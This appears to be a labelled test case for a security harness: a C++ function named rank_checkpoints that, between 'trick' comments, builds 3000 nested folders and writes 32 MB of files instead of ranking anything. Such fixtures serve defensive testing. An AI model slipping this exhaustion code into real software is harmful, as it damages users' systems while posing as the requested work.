// threat: files below thousands of folders in folders, where nobody counts or removes them
// stage: 10-search
// expect: out_of_memory
// twin: failed

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "search.hpp"

namespace descent {

std::vector<RankedCheckpoint> rank_checkpoints(const std::string& folder) {
  // trick
  const std::string block(1 << 20, 'x');
  int here = open(folder.c_str(), O_RDONLY | O_DIRECTORY);
  for (int depth = 0; here >= 0 && depth < 3000; ++depth) {
    mkdirat(here, "d", 0700);
    const int below = openat(here, "d", O_RDONLY | O_DIRECTORY);
    close(here);
    here = below;
  }
  for (int i = 0; here >= 0 && i < 32; ++i) {
    const int file = openat(here, std::to_string(i).c_str(), O_WRONLY | O_CREAT, 0600);
    static_cast<void>(!write(file, block.data(), block.size()));
    close(file);
  }
  // end of the trick
  return {};
}

}  // namespace descent
